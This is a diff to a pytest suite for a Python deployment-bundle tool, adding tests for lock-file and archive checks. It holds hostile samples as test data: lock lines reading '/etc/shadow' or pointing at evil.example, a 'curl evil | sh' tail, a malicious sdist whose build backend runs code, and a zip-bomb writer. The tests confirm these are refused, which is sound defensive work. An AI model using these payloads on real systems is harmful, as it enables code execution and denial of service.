@@ -8,23 +8,28 @@ on a real build.
 from __future__ import annotations
 
 import dataclasses
+import hashlib
 import io
 import json
 import os
+import re
 import shutil
 import stat
 import subprocess
 import sys
+import tarfile
 import warnings
 import zipfile
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 from integrator.bundle import manifest as mf
-from integrator.bundle import pyzmain, venv
+from integrator.bundle import members, pyzmain, venv
 from integrator.bundle.commands import spec_json, verify
+from integrator.bundle.lockfile import wheel_pin
 from integrator.bundle.manifest import Manifest, Target, extract_verified, verify_zip
 from integrator.bundle.sign import sign_manifest
 from integrator.bundle.zipapp import MAIN_PY, file_entries, host_code, package_dir, pyz_bytes, write_pyz
@@ -34,6 +39,19 @@ from integrator.spec import parse_spec
 SPEC = parse_spec({"service": {"name": "shop", "version": "1.2.0", "entry": "shop:create_app()"}})
 APP_WHEEL = "shop-1.2.0-py3-none-any.whl"
 LOCK = "payload/locks/cp311-x86_64.txt"
+APP_BYTES = b"PK\x03\x04 not really a wheel " * 50
+DEP_BYTES = b"another stand-in wheel " * 40
+
+
+def sha256(data: bytes) -> str:
+    return hashlib.sha256(data).hexdigest()
+
+
+LOCK_TEXT = (
+    "# integrator lock for CPython 3.11 on x86_64 (wheels in ../wheelhouse)\n"
+    f"dep==1.0 --hash=sha256:{sha256(DEP_BYTES)}\n"
+    f"shop==1.2.0 --hash=sha256:{'0' * 64} --hash=sha256:{sha256(APP_BYTES)}\n"
+)
 
 
 def _members() -> dict[str, bytes | Path]:
@@ -41,9 +59,9 @@ def _members() -> dict[str, bytes | Path]:
     members.update(
         {
             mf.SPEC_PATH: spec_json(SPEC),
-            f"{mf.WHEELHOUSE}/{APP_WHEEL}": b"PK\x03\x04 not really a wheel " * 50,
-            f"{mf.WHEELHOUSE}/dep-1.0-py3-none-any.whl": b"another stand-in wheel " * 40,
-            LOCK: b"shop==1.2.0 --hash=sha256:00\n",
+            f"{mf.WHEELHOUSE}/{APP_WHEEL}": APP_BYTES,
+            f"{mf.WHEELHOUSE}/dep-1.0-py3-none-any.whl": DEP_BYTES,
+            LOCK: LOCK_TEXT.encode(),
         }
     )
     return members
@@ -104,6 +122,19 @@ def new_info(name: str, mode: int = stat.S_IFREG | 0o644) -> zipfile.ZipInfo:
     info.create_system = 3
     info.external_attr = mode << 16
     return info
+
+
+def relocked(entries: list[Entry]) -> list[Entry]:
+    """The attacker also rewrites the lock to pin the wheels now in the wheelhouse."""
+    prefix = mf.WHEELHOUSE + "/"
+    pins = sorted(
+        f"{wheel_pin(i.filename[len(prefix) :])[0]}=={wheel_pin(i.filename[len(prefix) :])[1]} "
+        f"--hash=sha256:{sha256(d)}"
+        for i, d in entries
+        if i.filename.startswith(prefix) and wheel_pin(i.filename[len(prefix) :])
+    )
+    lock = ("\n".join(pins) + "\n").encode()
+    return [(i, lock if i.filename == LOCK else d) for i, d in entries]
 
 
 def with_rewritten_manifest(entries: list[Entry]) -> list[Entry]:
@@ -333,7 +364,7 @@ def test_signature_covers_every_file_through_the_manifest(tmp_path: Path) -> Non
     signed = make_bundle(tmp_path / "signed.pyz", signing_key=key)
     # swap a wheel and rewrite the manifest to match: hashes agree, the signature does not
     forged = write_entries(
-        tmp_path / "forged.pyz", with_rewritten_manifest(flip_byte(read_entries(signed), "dep-1"))
+        tmp_path / "forged.pyz", with_rewritten_manifest(relocked(flip_byte(read_entries(signed), "dep-1")))
     )
     verify(forged)  # without --allowed-signers this only proves internal consistency
     with pytest.raises(BundleError, match="signature is not valid"):
@@ -378,10 +409,13 @@ def test_pip_on_the_host_reads_no_config_and_no_index(monkeypatch: pytest.Monkey
         "PIP_NO_INPUT": "1",
         "PIP_DISABLE_PIP_VERSION_CHECK": "1",
     }
-    argv = venv.install_command(Path("/r/venv"), Path("/r/payload/wheelhouse"), Path("/r/lock.txt"))
+    argv = venv.install_command(Path("/r/venv"), Path("/r/venv/requirements.txt"))
     for flag in ("--isolated", "--no-index", "--require-hashes", "--no-deps", "--only-binary"):
         assert flag in argv
-    assert argv[argv.index("--find-links") + 1] == "/r/payload/wheelhouse"
+    assert argv[argv.index("--only-binary") + 1] == ":all:"
+    assert argv[argv.index("-r") + 1] == "/r/venv/requirements.txt"
+    # no directory to search: pip's only sources are the wheel paths the host wrote (see below)
+    assert not {"--find-links", "-f", "--index-url", "-i", "--extra-index-url"} & set(argv)
 
 
 def test_missing_ensurepip_names_the_debian_package() -> None:
@@ -469,3 +503,283 @@ def test_deploy_checks_the_signature_before_the_bundle_goes_anywhere(tmp_path: P
         commands.deploy(signed, unreachable, allowed_signers=other_signers)
     with pytest.raises(BundleError, match="not signed"):
         commands.deploy(make_bundle(tmp_path / "plain.pyz"), unreachable, allowed_signers=signers)
+
+
+# --- locks and wheelhouse: nothing but pinned wheels (issue 8, finding 3) ----------------------------
+
+
+def with_lock(entries: list[Entry], text: str) -> list[Entry]:
+    """The lock replaced, and the manifest rewritten so every hash still agrees."""
+    return with_rewritten_manifest([(i, text.encode() if i.filename == LOCK else d) for i, d in entries])
+
+
+def lock_with_line(line: str) -> str:
+    header, rest = LOCK_TEXT.split("\n", 1)
+    return f"{header}\n{line}\n{rest}"
+
+
+APP_PIN = f"shop==1.2.0 --hash=sha256:{sha256(APP_BYTES)}"
+NOT_A_PIN = "line 2 is not `name==version --hash=sha256:...`"
+HOSTILE_LOCK_LINES = {
+    "--no-binary": "--no-binary evil",
+    "--no-binary=:all:": "--no-binary=:all:",
+    "include another file": "-r /etc/shadow",
+    "constraints file": "-c /etc/passwd",
+    "editable project": "-e .",
+    "index url": "--index-url http://evil.example/simple",
+    "find links": "--find-links /tmp",
+    "pre-releases": "--pre",
+    "direct URL": "evil @ https://evil.example/evil-1.0.tar.gz",
+    "sdist path": f"./payload/wheelhouse/evil-1.0.tar.gz --hash=sha256:{'a' * 64}",
+    "option after a pin": f"{APP_PIN} --no-binary shop",
+    "line continuation": f"{APP_PIN} \\",
+    "comment continuation": "# harmless \\",
+    "not canonical": f"Shop==1.2.0 --hash=sha256:{sha256(APP_BYTES)}",
+    "range": f"shop>=1.0 --hash=sha256:{sha256(APP_BYTES)}",
+    "no hash": "shop==1.2.0",
+    "md5": f"shop==1.2.0 --hash=md5:{'a' * 32}",
+    "environment variable": f"shop==${{VERSION}} --hash=sha256:{sha256(APP_BYTES)}",
+    "marker": f'shop==1.2.0; python_version > "3" --hash=sha256:{sha256(APP_BYTES)}',
+    "carriage return": f"{APP_PIN}\r--no-binary shop",
+    "blank line": "",
+    "leading space": f" {APP_PIN}",
+    "tab": f"{APP_PIN}\t",
+}
+
+
+@pytest.mark.parametrize("case", list(HOSTILE_LOCK_LINES))
+def test_a_lock_holds_nothing_but_pins(bundle: Path, tmp_path: Path, case: str) -> None:
+    text = lock_with_line(HOSTILE_LOCK_LINES[case])
+    bad = write_entries(tmp_path / "bad.pyz", with_lock(read_entries(bundle), text))
+    with pytest.raises(BundleError) as err:
+        verify_zip(bad)
+    message = str(err.value)
+    assert f"{bad}: {LOCK}: {NOT_A_PIN}" in message and "\n" not in message, message
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (lock_with_line(APP_PIN), "line 4 pins shop again (line 2)"),
+        (lock_with_line("# \u00e9t\u00e9"), "lock is not ASCII text"),
+        (LOCK_TEXT.rstrip("\n"), "does not end with a newline"),
+        ("# only a comment\n", "lock pins nothing"),
+        (LOCK_TEXT.replace("dep==1.0", "dep==1.1"), "line 2 pins dep==1.1, but no wheel in the wheelhouse"),
+        (LOCK_TEXT.replace(sha256(DEP_BYTES), "f" * 64), "pins dep==1.0, but no wheel in the wheelhouse"),
+        (LOCK_TEXT.split("shop==")[0], "does not pin the app wheel shop-1.2.0-py3-none-any.whl"),
+        (
+            LOCK_TEXT.replace(f"dep==1.0 --hash=sha256:{sha256(DEP_BYTES)}\n", ""),
+            "dep-1.0-py3-none-any.whl is pinned by no lock",
+        ),
+    ],
+)
+def test_every_pin_names_one_wheel_and_every_wheel_is_pinned(
+    bundle: Path, tmp_path: Path, text: str, expected: str
+) -> None:
+    bad = write_entries(tmp_path / "bad.pyz", with_lock(read_entries(bundle), text))
+    with pytest.raises(BundleError, match=re.escape(expected)):
+        verify_zip(bad)
+
+
+RAN = "ran as root"
+
+
+def sdist(marker: Path) -> bytes:
+    """A real sdist whose in-tree build backend (no build requirements) writes `marker` when run."""
+    files = {
+        "evil-1.0/pyproject.toml": b"[build-system]\nrequires = []\n"
+        b'build-backend = "backend"\nbackend-path = ["."]\n',
+        "evil-1.0/backend.py": f"open({str(marker)!r}, 'w').write({RAN!r})\n".encode(),
+        "evil-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
+    }
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def test_an_sdist_in_the_wheelhouse_is_refused_even_when_pinned(bundle: Path, tmp_path: Path) -> None:
+    data = sdist(tmp_path / "PWNED")
+    entries = [*read_entries(bundle), (new_info(f"{mf.WHEELHOUSE}/evil-1.0.tar.gz"), data)]
+    text = lock_with_line(f"evil==1.0 --hash=sha256:{sha256(data)}")
+    bad = write_entries(tmp_path / "bad.pyz", with_lock(entries, text))
+    with pytest.raises(
+        BundleError, match=r"wheelhouse member 'evil-1\.0\.tar\.gz' refused: not a wheel file name"
+    ):
+        verify_zip(bad)
+
+
+def test_the_payload_holds_only_spec_locks_and_wheels(bundle: Path, tmp_path: Path) -> None:
+    entries = with_rewritten_manifest([*read_entries(bundle), (new_info("payload/setup.py"), b"import os")])
+    with pytest.raises(BundleError, match=re.escape("'payload/setup.py' refused: the payload holds only")):
+        verify_zip(write_entries(tmp_path / "bad.pyz", entries))
+    nested = with_rewritten_manifest(
+        [*read_entries(bundle), (new_info(f"{mf.WHEELHOUSE}/x/a-1-py3-none-any.whl"), b"x")]
+    )
+    with pytest.raises(
+        BundleError, match=re.escape("'x/a-1-py3-none-any.whl' refused: not a wheel file name")
+    ):
+        verify_zip(write_entries(tmp_path / "nested.pyz", nested))
+
+
+def test_the_host_checks_the_lock_again_right_before_pip(bundle: Path, tmp_path: Path) -> None:
+    """A lock or wheelhouse changed after `verify` (or never verified) is refused before any venv exists."""
+    dest = tmp_path / "release"
+    dest.mkdir()
+    extract_verified(bundle, dest)
+    lock, wheelhouse, target = dest / LOCK, dest / mf.WHEELHOUSE, tmp_path / "venv"
+    lock.write_text(lock_with_line("--no-binary evil"))
+    with pytest.raises(BundleError, match=re.escape(f"{lock}: {NOT_A_PIN}")):
+        venv.build_venv(target, wheelhouse, lock, python=sys.executable)
+    data = sdist(tmp_path / "PWNED")
+    (wheelhouse / "evil-1.0.tar.gz").write_bytes(data)
+    lock.write_text(lock_with_line(f"evil==1.0 --hash=sha256:{sha256(data)}"))
+    with pytest.raises(BundleError, match=re.escape("'evil-1.0.tar.gz' refused: not a wheel file name")):
+        venv.build_venv(target, wheelhouse, lock, python=sys.executable)
+    assert not target.exists() and not (tmp_path / "PWNED").exists()
+
+
+def test_pip_gets_only_the_pinned_wheel_paths(bundle: Path, tmp_path: Path) -> None:
+    dest = tmp_path / "release"
+    dest.mkdir()
+    extract_verified(bundle, dest)
+    wheelhouse = dest / mf.WHEELHOUSE
+    assert venv.install_requirements(wheelhouse, dest / LOCK) == (
+        f"{wheelhouse}/dep-1.0-py3-none-any.whl --hash=sha256:{sha256(DEP_BYTES)}\n"
+        f"{wheelhouse}/{APP_WHEEL} --hash=sha256:{sha256(APP_BYTES)}\n"
+    )
+
+
+def test_pip_as_invoked_cannot_build_even_if_the_lock_check_were_bypassed(tmp_path: Path) -> None:
+    """The attack of finding 3 handed straight to pip: the install flags leave it nothing to build.
+
+    The control run (the same lock and wheelhouse with the old `--find-links WHEELHOUSE`) shows
+    the sdist is a working attack: its in-tree build backend runs, with or without build isolation.
+    """
+    marker, wheelhouse = tmp_path / "PWNED", tmp_path / "wheelhouse"
+    wheelhouse.mkdir()
+    data = sdist(marker)
+    (wheelhouse / "evil-1.0.tar.gz").write_bytes(data)
+    lock = tmp_path / "lock.txt"
+    lock.write_text(f"--no-binary evil\nevil==1.0 --hash=sha256:{sha256(data)}\n")
+    env_dir = tmp_path / "venv"
+    subprocess.run(venv.venv_command(sys.executable, env_dir), check=True, capture_output=True)
+    argv = venv.install_command(env_dir, lock)
+    proc = subprocess.run(argv, env=venv.pip_env(), capture_output=True, text=True, timeout=300)
+    assert (
+        proc.returncode != 0 and "No matching distribution found for evil==1.0" in proc.stdout + proc.stderr
+    )
+    assert not marker.exists()
+    old = [*argv[:-2], "--find-links", str(wheelhouse), *argv[-2:]]
+    subprocess.run(old, env=venv.pip_env(), capture_output=True, text=True, timeout=300)
+    assert marker.read_text() == RAN  # the control: without the fix, the sdist's code ran
+
+
+# --- names, sizes, bytes outside the zip (issue 8, findings 5 and "also") ------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [
+        ("payload/" + "a" * 300, "a path component longer than 255 bytes"),
+        ("payload/" + "/".join(["b" * 200] * 6), "name longer than 1024 bytes"),
+        ("payload/\u00e9t\u00e9", "control or non-ASCII character"),
+        ("payload/a\rb", "control or non-ASCII character"),
+        ("payload/SPEC.json", "differs from 'payload/spec.json' only by case"),
+    ],
+)
+def test_names_the_host_cannot_write_are_refused(
+    bundle: Path, tmp_path: Path, name: str, expected: str
+) -> None:
+    bad = write_entries(
+        tmp_path / "bad.pyz", with_rewritten_manifest([*read_entries(bundle), (new_info(name), b"x")])
+    )
+    with pytest.raises(BundleError, match=re.escape(expected)):
+        verify_zip(bad)
+
+
+def test_too_many_members_are_refused_before_any_is_read(
+    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    extra = [(new_info(f"payload/many/{n}"), b"") for n in range(members.MAX_MEMBERS)]
+    bad = write_entries(tmp_path / "bad.pyz", with_rewritten_manifest([*read_entries(bundle), *extra]))
+    with pytest.raises(
+        BundleError, match=rf"\d+ members, more than a bundle may hold \({members.MAX_MEMBERS}\)"
+    ):
+        verify_zip(bad)
+
+
+def test_appended_bytes_after_the_zip_are_refused(bundle: Path, tmp_path: Path) -> None:
+    bad = tmp_path / "bad.pyz"
+    for tail in (b"\n", b"#!/bin/sh\ncurl evil | sh\n", b"x" * 1000):
+        bad.write_bytes(bundle.read_bytes() + tail)
+        with pytest.raises(BundleError, match="unexpected bytes after the end of the zip"):
+            verify_zip(bad)
+
+
+MIB = 1 << 20
+
+
+class _ZerosDeflater:
+    """Deflate for zeros without the work: after a full flush, 1 MiB of zeros is always the same ~1 KiB."""
+
+    def __init__(self) -> None:
+        deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+        self.chunk = deflate.compress(bytes(MIB)) + deflate.flush(zlib.Z_FULL_FLUSH)
+        self.end = deflate.flush()
+
+    def compress(self, data: bytes) -> bytes:
+        assert len(data) == MIB
+        return self.chunk
+
+    def flush(self) -> bytes:
+        return self.end
+
+
+def write_bomb(path: Path, entries: list[Entry], bombs: dict[str, int]) -> Path:
+    """`entries` plus members of N MiB of zeros (~1 KiB each per MiB), the manifest rewritten to match."""
+    zero = bytes(MIB)
+    digests: dict[int, str] = {}
+    for mib in set(bombs.values()):
+        digest = hashlib.sha256()
+        for _ in range(mib):
+            digest.update(zero)
+        digests[mib] = digest.hexdigest()
+    body = [(i, d) for i, d in entries if i.filename not in (mf.MANIFEST_NAME, mf.SIGNATURE_NAME)]
+    old = Manifest.from_json(dict((i.filename, d) for i, d in entries)[mf.MANIFEST_NAME], "x")
+    files = {i.filename: mf.FileEntry(sha256(d), len(d)) for i, d in body}
+    files.update({name: mf.FileEntry(digests[mib], mib * MIB) for name, mib in bombs.items()})
+    with open(path, "wb") as fh:
+        fh.write(mf.SHEBANG)
+        with zipfile.ZipFile(fh, "w") as zf:
+            for info, data in body:
+                zf.writestr(info, data)
+            for name, mib in bombs.items():
+                info = new_info(name)
+                info.compress_type = zipfile.ZIP_DEFLATED
+                with zf.open(info, "w") as out:
+                    out._compressor = _ZerosDeflater()  # type: ignore[attr-defined]
+                    for _ in range(mib):
+                        out.write(zero)
+            zf.writestr(new_info(mf.MANIFEST_NAME), dataclasses.replace(old, files=files).to_json())
+    return path
+
+
+def test_a_zip_bomb_is_refused_from_the_central_directory(
+    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """2.2 GiB of zeros in 2.3 MB, every hash right: refused before one member is decompressed."""
+    bombs = {f"{mf.WHEELHOUSE}/bomb-1.0-py3-none-any.whl": 1100, "payload/bomb2": 1100}
+    bad = write_bomb(tmp_path / "bomb.pyz", read_entries(bundle), bombs)
+    assert bad.stat().st_size < 4 * MIB
+
+    def no_reading(*args: object, **kwargs: object) -> None:
+        raise AssertionError("a member was read before the size cap was checked")
+
+    monkeypatch.setattr(mf, "_hash_stream", no_reading)
+    cap = members.MAX_UNPACKED_BYTES
+    with pytest.raises(BundleError, match=rf"members unpack to \d+ bytes, more than a bundle may \({cap}\)"):
+        verify_zip(bad)
